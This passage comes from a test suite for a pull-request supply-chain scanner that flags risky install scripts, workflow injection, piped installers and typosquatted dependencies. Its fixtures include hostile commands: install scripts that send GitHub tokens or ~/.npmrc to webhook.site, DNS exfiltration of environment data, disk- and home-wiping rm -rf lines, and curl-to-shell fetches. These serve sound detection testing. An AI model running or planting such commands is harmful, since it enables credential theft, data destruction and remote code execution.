    expect(copied.findings.filter((f) => f.id === 'gha-unpinned-action').map((f) => [f.path, f.package, f.severity])).toEqual([
      ['.github/workflows/main.yml', 'pre-commit/action', 'medium'],
      ['.github/workflows/main.yml', 'actions/checkout', 'low'],
    ]);
    // An injection moved from a maintainer-started workflow into a pull_request_target one is worse where it lands: reported.
    const inject = `
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "\${{ github.event.pull_request.title }}"
`;
    const escalated = analyze(
      snapshotOf(
        change('.github/workflows/manual.yml', workflow(`\non: pull_request\njobs:${inject}`), null),
        change('.github/workflows/target.yml', workflow(`\non: pull_request_target\njobs:${tests}`), workflow(`\non: pull_request_target\njobs:${inject}${tests}`)),
      ),
    );
    expect(escalated.findings.filter((f) => f.id === 'gha-template-injection').map((f) => [f.path, f.severity])).toEqual([['.github/workflows/target.yml', 'critical']]);
  });

  it('reports python-setup-script for build hooks a pyproject.toml adds (in-tree backend), not for those its base already had', () => {
    const base = '[project]\nname = "x"\n\n[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n';
    const inTree = base.replace('build-backend = "setuptools.build_meta"', 'build-backend = "backend"\nbackend-path = ["_build"]');
    const hooks = (snapshot: PrSnapshot) => analyze(snapshot).findings.filter((f) => f.id === 'python-setup-script').map((f) => [f.severity, f.title, f.line]);
    expect(hooks(snapshotOf(change('pyproject.toml', base, inTree)))).toEqual([['high', 'New install script "backend-path" in pyproject.toml', 7]]);
    expect(hooks(snapshotOf(change('pyproject.toml', inTree, inTree.replace('name = "x"', 'name = "x"\nversion = "2.0"'))))).toEqual([]);
  });

  it('does not report curl-pipe-shell for a version bump of an installer the workflow, image or script already piped; does for a new source', () => {
    const lint = (version: string, host = 'raw.githubusercontent.com/golangci') => `
  lint:
    runs-on: ubuntu-latest
    permissions: {}
    steps:
      - run: curl -sSfL https://${host}/golangci-lint/${version}/install.sh | sh -s -- -b "$(go env GOPATH)/bin" ${version}
`;
    const wf = (version: string, host?: string) => workflow(`\non: [push, pull_request]\njobs:${lint(version, host)}`);
    const pipes = (snapshot: PrSnapshot) => analyze(snapshot).findings.filter((f) => f.id === 'curl-pipe-shell').map((f) => [f.path, f.severity]);
    expect(pipes(snapshotOf(change('.github/workflows/lint.yml', wf('v1.54.2'), wf('v1.55.0'))))).toEqual([]);
    expect(pipes(snapshotOf(change('.github/workflows/lint.yml', wf('v1.54.2'), wf('v1.55.0', 'gist.githubusercontent.com/someone'))))).toEqual([['.github/workflows/lint.yml', 'high']]);
    const image = (version: string) => `FROM golang:1.23@sha256:${'c'.repeat(64)}\nRUN curl -fsSL https://get.tool.dev/${version}/install.sh | sh\n`;
    expect(pipes(snapshotOf(change('Dockerfile', image('1.2.3'), image('1.3.0'))))).toEqual([]);
    expect(pipes(snapshotOf(change('Dockerfile', image('1.2.3'), image('1.3.0').replace('get.tool.dev', 'get-tool.dev'))))).toEqual([['Dockerfile', 'high']]);
    const scripts = (version: string) => `${JSON.stringify({ name: 'web', scripts: { 'setup:tools': `curl -fsSL https://get.tool.dev/install.sh | bash -s -- ${version}` } }, null, 2)}\n`;
    expect(pipes(snapshotOf(change('package.json', scripts('2.0.1'), scripts('2.1.0'))))).toEqual([]);
  });

  it('reports curl-pipe-shell for a package script that downloads a script to a file and runs it (high, as the pipe); not for a version bump, a binary or a checksummed download', () => {
    const pipes = (snapshot: PrSnapshot) => analyze(snapshot).findings.filter((f) => f.id === 'curl-pipe-shell').map((f) => [f.path, f.severity, f.title]);
    const manifest = (scripts: Record<string, string>) => `${JSON.stringify({ name: 'web', scripts }, null, 2)}\n`;
    const base = manifest({ build: 'tsc -p .' });
    expect(pipes(snapshotOf(change('package.json', base, manifest({ build: 'tsc -p .', 'setup:tools': 'curl -fsSL -o /tmp/t.sh https://get.tool.dev/install.sh && sh /tmp/t.sh' }))))).toEqual([['package.json', 'high', 'Script "setup:tools" runs a script it downloads']]);
    const bump = (version: string) => manifest({ 'setup:tools': `curl -fsSL -o /tmp/t.sh https://get.tool.dev/${version}/install.sh && sh /tmp/t.sh` });
    expect(pipes(snapshotOf(change('package.json', bump('2.0.1'), bump('2.1.0'))))).toEqual([]);
    expect(pipes(snapshotOf(change('package.json', base, manifest({ build: 'tsc -p .', 'setup:kind': 'curl -Lo ./bin/kind https://kind.sigs.k8s.io/dl/v0.24.0/kind-linux-amd64 && chmod +x ./bin/kind' }))))).toEqual([]);
    expect(pipes(snapshotOf(change('package.json', base, manifest({ build: 'tsc -p .', 'setup:tools': 'curl -fsSLo t.sh https://get.tool.dev/install.sh && sha256sum -c t.sh.sha256 && sh t.sh' }))))).toEqual([]);
  });

  it('reports each script a package script downloads and runs, once per source; not one the base already ran, nor the same source twice', () => {
    const pipes = (snapshot: PrSnapshot) => analyze(snapshot).findings.filter((f) => f.id === 'curl-pipe-shell').map((f) => f.detail.match(/downloads (\S+)/)?.[1]);
    const manifest = (scripts: Record<string, string>) => `${JSON.stringify({ name: 'web', scripts }, null, 2)}\n`;
    const uv = 'curl -LsSf -o /tmp/uv.sh https://astral.sh/uv/install.sh && sh /tmp/uv.sh';
    const stranger = 'curl -fsSL -o /tmp/w.sh https://npm-warm-cache.dev/setup.sh && bash /tmp/w.sh';
    // Two installers in one new script: each is a finding.
    expect(pipes(snapshotOf(change('package.json', manifest({ build: 'tsc -p .' }), manifest({ build: 'tsc -p .', 'setup:tools': `${uv} && ${stranger}` }))))).toEqual(['https://astral.sh/uv/install.sh', 'https://npm-warm-cache.dev/setup.sh']);
    // The base ran uv's installer: only the stranger's script the PR adds after it.
    expect(pipes(snapshotOf(change('package.json', manifest({ 'setup:tools': uv }), manifest({ 'setup:tools': `${uv} && ${stranger}` }))))).toEqual(['https://npm-warm-cache.dev/setup.sh']);
    // The same source twice (two versions, or downloaded again) is one; a base that ran both reports none.
    const twice = 'curl -fsSL -o /tmp/a.sh https://get.tool.dev/1.2.0/install.sh && sh /tmp/a.sh && curl -fsSL -o /tmp/b.sh https://get.tool.dev/1.3.0/install.sh && sh /tmp/b.sh';
    expect(pipes(snapshotOf(change('package.json', manifest({ build: 'tsc -p .' }), manifest({ build: 'tsc -p .', 'setup:tools': twice }))))).toEqual(['https://get.tool.dev/1.2.0/install.sh']);
    expect(pipes(snapshotOf(change('package.json', manifest({ 'setup:tools': `${uv} && ${stranger}` }), manifest({ 'setup:tools': `${stranger} && ${uv} --quiet` }))))).toEqual([]);
  });

  it('does not report curl-pipe-shell for a new job that pipes an installer another job of the workflow already pipes (kubebuilder #5043); does for a new one', () => {
    const helmJob = (id: string, script = 'get-helm-3') => `
  ${id}:
    runs-on: ubuntu-latest
    permissions: {}
    steps:
      - run: curl https://raw.githubusercontent.com/helm/helm/main/scripts/${script} | bash
`;
    const pipes = (snapshot: PrSnapshot) => analyze(snapshot).findings.filter((f) => f.id === 'curl-pipe-shell').map((f) => [f.path, f.severity]);
    const base = workflow(`\non: [pull_request]\njobs:${helmJob('helm-test')}`);
    expect(pipes(snapshotOf(change('.github/workflows/test-helm-samples.yml', base, workflow(`\non: [pull_request]\njobs:${helmJob('helm-test')}${helmJob('helm-test-no-webhooks')}`))))).toEqual([]);
    expect(pipes(snapshotOf(change('.github/workflows/test-helm-samples.yml', base, workflow(`\non: [pull_request]\njobs:${helmJob('helm-test')}${helmJob('helm-test-no-webhooks', 'get-helm-edge')}`))))).toEqual([['.github/workflows/test-helm-samples.yml', 'medium']]);
  });

  it('describes and points at the entry that comes from a URL when a package is also declared from the registry', () => {
    const base = lines('[project]', 'name = "app"', 'dependencies = ["django>=4.2"]', '');
    const head = lines('[project]', 'name = "app"', 'dependencies = ["django>=4.2"]', '', '[dependency-groups]', 'djangomain = [ "django @ https://github.com/django/django/archive/main.tar.gz" ]', '');
    const section = analyze(snapshotOf(change('pyproject.toml', base, head)));
    expect(section.findings.filter((f) => f.id === 'url-dependency').map((f) => [f.line, f.detail.slice(0, 70)])).toEqual([
      [6, 'django (https://github.com/django/django/archive/main.tar.gz) is not r'],
    ]);
  });

  it('does not report a URL entry the base already had when another declaration of the package changes (calib30: a dependency group moved to a release)', () => {
    // Modeled on a web framework's test matrix: one dependency group per framework release and one for its main branch.
    const groups = (range: string, url = 'https://github.com/django/django/archive/main.tar.gz') =>
      lines('[project]', 'name = "app"', 'dependencies = ["django>=4.2"]', '', '[dependency-groups]', `django61 = [ "django${range}" ]`, `djangomain = [ "django @ ${url}" ]`, '');
    const urls = (base: string, head: string) => analyze(snapshotOf(change('pyproject.toml', base, head))).findings.filter((f) => f.id === 'url-dependency').map((f) => [f.severity, f.line]);
    expect(urls(groups('>=6.1rc1,<6.2'), groups('>=6.1,<6.2'))).toEqual([]);
    // The URL itself changed, or came in with the edit: reported as before.
    expect(urls(groups('>=6.1rc1,<6.2'), groups('>=6.1,<6.2', 'https://github.com/djang0/django/archive/main.tar.gz'))).toEqual([['medium', 7]]);
    expect(urls(lines('[project]', 'name = "app"', 'dependencies = ["django>=4.2"]', '', '[dependency-groups]', 'django61 = [ "django>=6.1rc1,<6.2" ]', ''), groups('>=6.1,<6.2'))).toEqual([['medium', 7]]);
  });

  it('reads an existing dependency moved to another package through an alias (lodash to npm:lodahs at the same range) as a new name; an alias of a popular package is not a squat', () => {
    const squats = (head: Record<string, string>) =>
      analyze(snapshotOf(change('package.json', pkg({ dependencies: { lodash: '^4.17.21', 'string-width': '^4.2.0' } }), pkg({ dependencies: head })))).findings.filter((f) => f.id === 'typosquat').map((f) => [f.package, f.severity]);
    expect(squats({ lodash: 'npm:lodahs@^4.17.21', 'string-width': '^4.2.0' })).toEqual([['lodahs', 'high']]);
    expect(squats({ lodash: 'npm:lodash-es@^4.17.21', 'string-width': 'npm:string-width@^4.2.0' })).toEqual([]);
  });

  it("does not read a go.mod requirement marked indirect that no Go file of the PR imports as a typo (go mod tidy wrote it for another module's import); a direct one, or one the PR's code imports, is", () => {
    const mod = (require: string) => lines('module example.com/app', '', 'go 1.24', '', 'require (', '\tk8s.io/api v0.35.4', require, ')', '');
    const squats = (require: string, ...more: SnapshotFile[]) =>
      analyze(snapshotOf(change('detectors/k8s/go.mod', mod(''), mod(require)), ...more)).findings.filter((f) => f.id === 'typosquat').map((f) => [f.package, f.severity]);
    // gopkg.in/inf.v0 is one letter from gopkg.in/ini, and Kubernetes' apimachinery imports it.
    expect(squats('\tgopkg.in/inf.v0 v0.9.1 // indirect')).toEqual([]);
    expect(squats('\tgopkg.in/inf.v0 v0.9.1 // indirect', makeFile('detectors/k8s/detector.go', { patch: '@@ -1,3 +1,4 @@\n import (\n+\t"k8s.io/api/core/v1"\n )' }))).toEqual([]);
    // Typed: a direct requirement, or an indirect one the PR's code imports.
    expect(squats('\tgopkg.in/inf.v0 v0.9.1')).toEqual([['gopkg.in/inf.v0', 'high']]);
    expect(squats('\tgopkg.in/inf.v0 v0.9.1 // indirect', makeFile('detectors/k8s/detector.go', { patch: '@@ -1,3 +1,4 @@\n import (\n+\tinf "gopkg.in/inf.v0"\n )' }))).toEqual([['gopkg.in/inf.v0', 'high']]);
    // A Go file sent without a patch may import anything.
    expect(squats('\tgopkg.in/inf.v0 v0.9.1 // indirect', makeFile('detectors/k8s/detector.go', { patch: null }))).toEqual([['gopkg.in/inf.v0', 'high']]);
  });

  it('escalates a typosquat that runs an install script to critical', () => {
    const section = analyze(
      snapshotOf(
        change('package.json', pkg({ dependencies: {} }), pkg({ dependencies: { 'lodahs': '^1.0.0' } })),
        change('package-lock.json', npmLock([], {}), npmLock(['lodahs'], { lodahs: { version: '1.0.0', hasInstallScript: true } })),
      ),
    );
    expect(section.findings.filter((f) => f.package === 'lodahs').map((f) => [f.id, f.severity])).toEqual([
      ['typosquat', 'critical'],
      ['npm-install-script', 'high'],
    ]);
  });

  it('rates an install script that sends data in a DNS lookup critical; an ordinary lookup stays high', () => {
    const severity = (postinstall: string) => analyze(snapshotOf(change('package.json', pkg({ scripts: {} }), pkg({ scripts: { postinstall } })))).findings.find((f) => f.id === 'npm-install-script')?.severity;
    expect(severity('nslookup "$(whoami).$(hostname | base32 | tr -d =).cb.npm-stats.dev" >/dev/null 2>&1 || true')).toBe('critical');
    expect(severity('for c in $(env | base32 -w0 | fold -w 60); do dig +short $c.d.npm-stats.dev; done')).toBe('critical');
    expect(severity('node scripts/check-registry.js && dig +short registry.npmjs.org >/dev/null')).toBe('high');
  });

  it('rates an install script that contacts a collector or a bare IP, or wipes the disk or home folder, critical (Toptal picasso, July 2025)', () => {
    const severity = (preinstall: string) => analyze(snapshotOf(change('package.json', pkg({ scripts: {} }), pkg({ scripts: { preinstall } })))).findings.find((f) => f.id === 'npm-install-script')?.severity;
    expect(severity('curl -d "$(gh auth token)" https://webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7')).toBe('critical');
    expect(severity('node -e "require(\'https\').get(\'https://45.77.12.9/p\')"')).toBe('critical');
    expect(severity('rm -rf / --no-preserve-root')).toBe('critical');
    expect(severity('sudo rm -fr $HOME')).toBe('critical');
    expect(severity('node setup.js || rm -rf ~/*')).toBe('critical');
    // Cleaning the project's own folders, or a host of its own, stays high.
    expect(severity('rm -rf ./dist node_modules/.cache')).toBe('high');
    expect(severity('rm -rf /tmp/acme-build')).toBe('high');
    expect(severity('curl -fsSL https://downloads.acme.dev/cli.tgz | tar xz -C ./bin')).toBe('high');
  });

  it('does not report an install script that only drops commands it ran before; does one that adds, changes or reorders a command', () => {
    const script = (before: string, after: string) =>
      ids(snapshotOf(change('package.json', pkg({ scripts: { postinstall: before } }), pkg({ scripts: { postinstall: after } })))).filter((id) => id === 'npm-install-script');
    expect(script('workspace-tool dev && pkg-lint check', 'pkg-lint check')).toEqual([]);
    expect(script('husky install ; patch-package  --strict', 'patch-package --strict')).toEqual([]);
    expect(script('pkg-lint check', 'pkg-lint check && node scripts/fetch.js')).toEqual(['npm-install-script']);
    expect(script('workspace-tool dev && pkg-lint check', 'pkg-lint check --fix')).toEqual(['npm-install-script']);
    expect(script('a-tool one && b-tool two', 'b-tool two && a-tool one')).toEqual(['npm-install-script']);
  });

  it('keeps a prepare script that only sets up a git-hook manager low; one that runs anything else high', () => {
    const severity = (prepare: string, extra: Record<string, string> = {}) =>
      analyze(snapshotOf(change('package.json', pkg({ scripts: { test: 'vitest' } }), pkg({ scripts: { test: 'vitest', prepare, ...extra } }))))
        .findings.filter((f) => f.id === 'npm-install-script')
        .map((f) => f.severity);
    expect(severity('husky install && npm run prepare:hooks', { 'prepare:hooks': 'npx husky add .husky/commit-msg "npx --no -- commitlint --edit $1"' })).toEqual(['low']);
    expect(severity('is-ci || husky')).toEqual(['low']);
    expect(severity('simple-git-hooks')).toEqual(['low']);
    expect(severity('npx lefthook install')).toEqual(['low']);
    expect(severity('git config core.hooksPath .githooks')).toEqual(['low']);
    expect(severity('husky install && node scripts/setup.js')).toEqual(['high']);
    expect(severity('husky install && npm run setup', { setup: 'curl https://example.test/x | sh' })).toEqual(['high']);
    expect(severity('husky add .husky/pre-commit "curl https://example.test/x | sh"')).toEqual(['high']);
    expect(severity('husky install; hook-helper')).toEqual(['high']);
    expect(severity('npm run a', { a: 'npm run a' })).toEqual(['high']);
    expect(severity('npm run a', { a: 'husky && npm run b', b: 'npm run a' })).toEqual(['high']);
    // The same harmless script run twice is read once and stays harmless.
    expect(severity('npm run hooks && npm run hooks', { hooks: 'husky' })).toEqual(['low']);
    expect(severity('husky install $(node x.js)')).toEqual(['high']);
  });

  it("keeps a preinstall that only guards the package manager (npx only-allow pnpm, pnpm's documented recipe) low; only-allow of anything else, or with more, high", () => {
    const finding = (preinstall: string) =>
      analyze(snapshotOf(change('package.json', pkg({ scripts: { test: 'vitest' } }), pkg({ scripts: { test: 'vitest', preinstall } })))).findings.filter((f) => f.id === 'npm-install-script');
    expect(finding('npx only-allow pnpm').map((f) => [f.severity, f.title])).toEqual([['low', 'New install script "preinstall" in package.json (a package-manager guard)']]);
    expect(finding('only-allow yarn && husky').map((f) => f.severity)).toEqual(['low']);
    expect(finding('npx only-allow pnpm && node setup_bun.js').map((f) => f.severity)).toEqual(['high']);
    expect(finding('npx only-allow ./scripts/check.js').map((f) => f.severity)).toEqual(['high']);
    expect(finding('npx only-allow pnpm $(curl -s https://example.test/x)').map((f) => f.severity)).toEqual(['high']);
  });

  it("keeps a prepare script that only builds the package with its own compiler or bundler low; one that runs the repository's scripts or anything else high", () => {
    const finding = (prepare: string, extra: Record<string, string> = {}, before: Record<string, string> = {}) =>
      analyze(snapshotOf(change('package.json', pkg({ scripts: { test: 'vitest', ...before } }), pkg({ scripts: { test: 'vitest', prepare, ...extra } })))).findings.filter(
        (f) => f.id === 'npm-install-script',
      );
    const severity = (prepare: string, extra: Record<string, string> = {}, before: Record<string, string> = {}) => finding(prepare, extra, before).map((f) => f.severity);
    expect(severity('tsc -p tsconfig.build.json')).toEqual(['low']);
    expect(finding('npm run build', { build: 'tsc -p .' })[0]?.title).toBe('New install script "prepare" in package.json (the package\'s own build)');
    // The same build moved from prepack to prepare (koa's shape).
    expect(severity('npm run build', { build: 'tsc -p .' }, { build: 'tsc -p .', prepack: 'npm run build' })).toEqual(['low']);
    expect(severity('rimraf dist && tsup && husky')).toEqual(['low']);
    expect(severity('npx vite build --outDir=dist/app')).toEqual(['low']);
    expect(severity('rollup -c rollup.config.mjs && npm run types', { types: 'tsc --emitDeclarationOnly --declaration' })).toEqual(['low']);
    expect(severity('esbuild src/index.ts --bundle --platform=node --outfile=dist/index.js')).toEqual(['low']);
    // A script of the repository, a native build, a download, a tool that is not a build, a path out of the repository: high.
    expect(severity('npm run build', { build: 'node scripts/build.js' })).toEqual(['high']);
    expect(severity('tsc && node dist/postinstall.js')).toEqual(['high']);
    expect(severity('node-gyp rebuild')).toEqual(['high']);
    expect(severity('patch-package')).toEqual(['high']);
    expect(severity('vite')).toEqual(['high']);
    expect(severity('tsc --outDir ../../.ssh')).toEqual(['high']);
    expect(severity('rimraf ~ && tsc')).toEqual(['high']);
    expect(severity('rimraf . && tsc')).toEqual(['high']);
    expect(severity('rimraf')).toEqual(['high']);
    expect(severity('esbuild --bundle https://example.test/x.js')).toEqual(['high']);
    expect(severity('tsc | sh')).toEqual(['high']);
    expect(severity('tsup $(curl -s https://example.test/a)')).toEqual(['high']);
  });

  it("does not report a script moved to another lifecycle script that reaches no one new; rates a move by who it adds (koa's prepublish to prepare)", () => {
    const findings = (before: Record<string, string>, after: Record<string, string>) =>
      analyze(snapshotOf(change('package.json', pkg({ scripts: before }), pkg({ scripts: after })))).findings.filter((f) => f.id === 'npm-install-script');
    const found = (before: Record<string, string>, after: Record<string, string>) => findings(before, after).map((f) => [f.severity, f.title]);
    const build = { test: 'mocha test', build: 'gen-esm-wrapper . ./dist/koa.mjs' };
    // prepublish to prepare: the same command, now also on installs from git too; never from the registry.
    const koa = findings({ ...build, prepublish: 'npm run build' }, { ...build, prepare: 'npm run build' });
    expect(koa.map((f) => [f.severity, f.title])).toEqual([['low', 'Install script "prepare" moved from "prepublish" in package.json']]);
    expect(koa[0]?.detail).toContain('The base ran the same script from "prepublish"');
    // A pack-time command moved onto developers' local installs: medium.
    expect(found({ ...build, prepack: 'npm run build' }, { ...build, prepublish: 'npm run build' })).toEqual([['medium', 'Install script "prepublish" moved from "prepack" in package.json']]);
    expect(found({ ...build, prepublishOnly: 'npm run build' }, { ...build, prepare: 'npm run build' })).toEqual([['medium', 'Install script "prepare" moved from "prepublishOnly" in package.json']]);
    // Moved to a script that reaches no one new (postinstall to prepare, prepare to prepublish), whitespace aside, or copied: nothing.
    expect(findings({ ...build, postinstall: 'node scripts/setup.js' }, { ...build, prepare: 'node  scripts/setup.js ' })).toEqual([]);
    expect(findings({ ...build, prepare: 'npm run build' }, { ...build, prepublish: 'npm run build' })).toEqual([]);
    expect(findings({ ...build, postinstall: 'npm run build' }, { ...build, postinstall: 'npm run build', prepare: 'npm run build' })).toEqual([]);
    // Onto every consumer's install, a changed command, a changed script it runs, one no lifecycle script ran: high.
    expect(found({ ...build, prepare: 'npm run build' }, { ...build, postinstall: 'npm run build' })).toEqual([['high', 'New install script "postinstall" in package.json']]);
    expect(found({ ...build, prepublish: 'npm run build' }, { ...build, prepare: 'npm run build && node scripts/x.js' })).toEqual([['high', 'New install script "prepare" in package.json']]);
    expect(found({ ...build, prepublish: 'npm run build' }, { ...build, build: 'node scripts/esm.js', prepare: 'npm run build' })).toEqual([['high', 'New install script "prepare" in package.json']]);
    expect(found({ ...build, release: 'npm run build' }, { ...build, prepare: 'npm run build' })).toEqual([['high', 'New install script "prepare" in package.json']]);
    expect(found({ prepublish: 'a-tool one && b-tool two' }, { prepare: 'a-tool one || b-tool two' })).toEqual([['high', 'New install script "prepare" in package.json']]);
    // A collector, a wiper or a download keeps its severity however it moved.
    const exfil = 'curl -d "$(gh auth token)" https://webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7';
    expect(found({ postinstall: exfil }, { prepare: exfil })).toEqual([['critical', 'New install script "prepare" in package.json']]);
    expect(found({ prepack: 'node x.js || rm -rf ~/*' }, { prepare: 'node x.js || rm -rf ~/*' })).toEqual([['critical', 'New install script "prepare" in package.json']]);
    const download = 'curl -fsSL https://downloads.acme.dev/cli.tgz | tar xz -C ./bin';
    expect(found({ prepublish: download }, { prepare: download })).toEqual([['high', 'New install script "prepare" in package.json']]);
  });

  it('reports a script that an unchanged install script runs with npm run when the PR changes it, unless it still only builds the package', () => {
    const findings = (before: Record<string, string>, after: Record<string, string>) =>
      analyze(snapshotOf(change('package.json', pkg({ scripts: before }), pkg({ scripts: after })))).findings.filter((f) => f.id === 'npm-install-script');
    const prepare = { test: 'vitest', prepare: 'npm run build', build: 'tsc -p .' };
    const exfiltrating = findings(prepare, { ...prepare, build: 'curl -s -d @$HOME/.npmrc https://webhook.site/3f1c; tsc -p .' });
    expect(exfiltrating.map((f) => [f.severity, f.title, f.line])).toEqual([['critical', 'Changed script "build" that install script "prepare" runs, in package.json', 7]]);
    expect(exfiltrating[0]?.detail).toContain('"build" is now: curl -s');
    // After a command that is not harmless, the scripts run further on are still read.
    expect(findings({ prepare: 'node scripts/setup.js && npm run build', build: 'tsc' }, { prepare: 'node scripts/setup.js && npm run build', build: 'tsc && node dist/x.js' }).map((f) => f.title)).toEqual([
      'Changed script "build" that install script "prepare" runs, in package.json',
    ]);
    // Two levels down (prepare -> build -> compile), and a yarn/pnpm short form.
    expect(findings({ prepare: 'yarn build', build: 'npm run compile', compile: 'tsc' }, { prepare: 'yarn build', build: 'npm run compile', compile: 'node scripts/compile.js' }).map((f) => f.severity)).toEqual(['high']);
    // Still the package's own build, a script no install script runs, an unchanged one: nothing.
    expect(findings(prepare, { ...prepare, build: 'tsc -b tsconfig.build.json' })).toEqual([]);
    expect(findings(prepare, { ...prepare, test: 'node scripts/test.js' })).toEqual([]);
    expect(findings({ ...prepare, build: 'node scripts/build.js' }, { ...prepare, build: 'node scripts/build.js', lint: 'eslint .' })).toEqual([]);
  });

  it("reports a Composer script that an unchanged install event runs with @name when the PR changes it; not Composer's own @php", () => {
    const composer = (scripts: Record<string, string | string[]>) => JSON.stringify({ require: {}, scripts }, null, 2);
    const findings = (before: Record<string, string | string[]>, after: Record<string, string | string[]>) =>
      analyze(snapshotOf(change('composer.json', composer(before), composer(after)))).findings.filter((f) => f.id === 'composer-install-script');
    const base = { 'post-install-cmd': ['@build', '@php artisan package:discover'], build: 'php bin/build.php' };
    const changed = findings(base, { ...base, build: 'curl -s https://paste.ee/r/x7Qz | php' });
    expect(changed.map((f) => [f.severity, f.title])).toEqual([['critical', 'Changed script "build" that install script "post-install-cmd" runs, in composer.json']]);
    expect(findings(base, { ...base, test: 'phpunit' })).toEqual([]);
    expect(findings({ 'post-install-cmd': ['@php artisan package:discover'], php: 'echo x' }, { 'post-install-cmd': ['@php artisan package:discover'], php: 'curl -s https://paste.ee/r/x | php' })).toEqual([]);
  });

  it('puts dependency review vulnerabilities in the section', () => {
    const section = analyze(
      makeSnapshot({
        dependencyChanges: [reviewChange('added', [{ severity: 'critical', advisoryGhsaId: 'GHSA-1', advisorySummary: 'RCE', advisoryUrl: 'https://github.com/advisories/GHSA-1' }])],
      }),
    );
    expect(section.vulnerabilities).toEqual([
      { ecosystem: 'npm', name: 'lodash', version: '4.17.15', severity: 'critical', advisory: 'GHSA-1', summary: 'RCE', url: 'https://github.com/advisories/GHSA-1' },
    ]);
    expect(section.findings.map((f) => [f.id, f.severity, f.path, f.package])).toEqual([['vulnerable-dependency', 'critical', 'package-lock.json', 'lodash']]);
    expect(section.new_dependencies.map((d) => d.name)).toEqual(['lodash']);
  });

  it('records unparseable files as skipped, without throwing', () => {
    const section = analyze(snapshotOf(change('package.json', pkg({}), '{ broken'), change('.github/workflows/x.yml', null, 'on: [push\n')));
    expect(section.skipped.map((s) => s.path)).toEqual(['package.json', '.github/workflows/x.yml']);
    expect(section.findings).toEqual([]);
  });

  it('applies the repository configuration: overrides, then ignores', () => {
    const snapshot = CASES.find((c) => c.id === 'gha-unpinned-action')!.positive();
    const section = analyze(snapshot, {
      severity_overrides: { 'gha-unpinned-action': 'high' },
      ignore_findings: [{ id: 'gha-unpinned-action', package: 'some-org/deploy-action', reason: 'vendored fork, reviewed' }],
    });
    expect(section.findings).toEqual([]);
    expect(section.suppressed_findings.map((f) => [f.id, f.severity, f.reason])).toEqual([['gha-unpinned-action', 'high', 'vendored fork, reviewed']]);
    expect(section.ci_changes[0]!.findings).toEqual([]);
  });

  it('caps the lists of a 3,000-file PR with a large lockfile change', () => {
    const base: Record<string, LockEntry> = {};
    const head: Record<string, LockEntry> = {};
    for (let i = 0; i < 10000; i += 1) {
      base[`pkg-${i}`] = { version: `1.0.${i % 10}` };
      head[`pkg-${i}`] = { version: i % 10 === 0 ? `1.1.${i % 10}` : `1.0.${i % 10}` };
    }
    const files: (Change | SnapshotFile)[] = [change('package-lock.json', npmLock([], base), npmLock([], head))];
    for (let i = 0; i < 3000; i += 1) files.push(makeFile(`src/module-${i}/file-${i}.ts`, { patch: '@@ -1,2 +1,3 @@\n a\n+export const value = 1;\n b' }));
    const snapshot = snapshotOf(...files);
    const section = analyze(snapshot);
    expect(section.updated_dependencies).toHaveLength(MAX_TRANSITIVE_CHANGES);
    expect(section.findings.map((f) => f.id)).toEqual(['lockfile-without-manifest', 'lockfile-large-change']);
  });

  it('notes a lockfile past the list cap from one change over it, and counts what it leaves out', () => {
    const lockOf = (count: number): Record<string, LockEntry> => Object.fromEntries(Array.from({ length: count }, (_, i) => [`dep-${i}`, { version: '1.0.0' }]));
    const atCap = analyze(snapshotOf(change('package-lock.json', npmLock([], {}), npmLock([], lockOf(MAX_TRANSITIVE_CHANGES)))));
    expect(atCap.new_dependencies).toHaveLength(MAX_TRANSITIVE_CHANGES);
    expect(atCap.findings.map((f) => f.id)).not.toContain('lockfile-large-change');
    const overCap = analyze(snapshotOf(change('package-lock.json', npmLock([], {}), npmLock([], lockOf(MAX_TRANSITIVE_CHANGES + 1)))));
    expect(overCap.new_dependencies).toHaveLength(MAX_TRANSITIVE_CHANGES);
    expect(overCap.findings.find((f) => f.id === 'lockfile-large-change')?.detail).toMatch(/^1 more transitive package changes/);
  });

  it('lists a manifest whose content could not be read as skipped, instead of reporting it clean', () => {
    const section = analyze(makeSnapshot({ files: [makeFile('package.json'), makeFile('yarn.lock', { status: 'added' })], contents: [{ path: 'yarn.lock', base: null, head: null }] }));
    expect(section.skipped).toEqual([
      { path: 'package.json', reason: 'the base and head version could not be read from GitHub' },
      { path: 'yarn.lock', reason: 'the head version could not be read from GitHub' },
    ]);
  });

  it('puts a go-replace finding on the replace directive, not on the require line', () => {
    const section = analyze(CASES.find((c) => c.id === 'go-replace')!.positive());
    expect(section.findings.map((f) => [f.id, f.line])).toEqual([['go-replace', 7]]);
  });

  it('reports a look-alike Go module and Maven artifact, not a new module of a popular owner', () => {
    const goMod = (requires: string): string => `module example.com/app\n\ngo 1.22\n\nrequire (\n${requires})\n`;
    const pom = (deps: string): string => `<project><dependencies>${deps}</dependencies></project>`;
    const dep = (group: string, artifact: string): string => `<dependency><groupId>${group}</groupId><artifactId>${artifact}</artifactId><version>1.0.0</version></dependency>`;
    const section = analyze(
      snapshotOf(
        change('go.mod', goMod('\tgithub.com/stretchr/testify v1.9.0\n'), goMod('\tgithub.com/stretchr/testify v1.9.0\n\tgithub.com/sirupsem/logrus v1.9.3\n\tgolang.org/x/vuln v1.1.0\n')),
        change('pom.xml', pom(''), pom(dep('com.fasterxmI.jackson.core', 'jackson-databind') + dep('org.springframework.boot', 'spring-boot-starter-actuator'))),
      ),
    );
    expect(section.findings.filter((f) => f.id === 'typosquat').map((f) => [f.path, f.package])).toEqual([
      ['go.mod', 'github.com/sirupsem/logrus'],
      ['pom.xml', 'com.fasterxmI.jackson.core:jackson-databind'],
    ]);
  });
});


describe('cargo-build-script for a script that only prints directives', () => {
  const addedPatch = (text: string): string => {
    const body = text.trimEnd().split('\n');
    return `@@ -0,0 +1,${body.length} @@\n${body.map((l) => `+${l}`).join('\n')}`;
  };
  const manifest = (build: string): string => `[package]\nname = "demo"\nversion = "0.1.0"\n${build}`;
  const cfgOnly = ['use std::env;', '', 'fn main() {', '    if env::var("TARGET").map_or(false, |t| t.starts_with("thumbv6m")) {', '        println!("cargo:rustc-cfg=no_cas");', '    }', '    println!("cargo:rerun-if-changed=build.rs");', '}'].join('\n');
  const severities = (script: string) =>
    analyze(snapshotOf(makeFile('build.rs', { status: 'added', patch: addedPatch(script) }), change('Cargo.toml', manifest(''), manifest('build = "build.rs"\n'))))
      .findings.filter((f) => f.id === 'cargo-build-script')
      .map((f) => [f.path, f.severity]);

  it('is a note, on the script and on the Cargo.toml that declares it', () => {
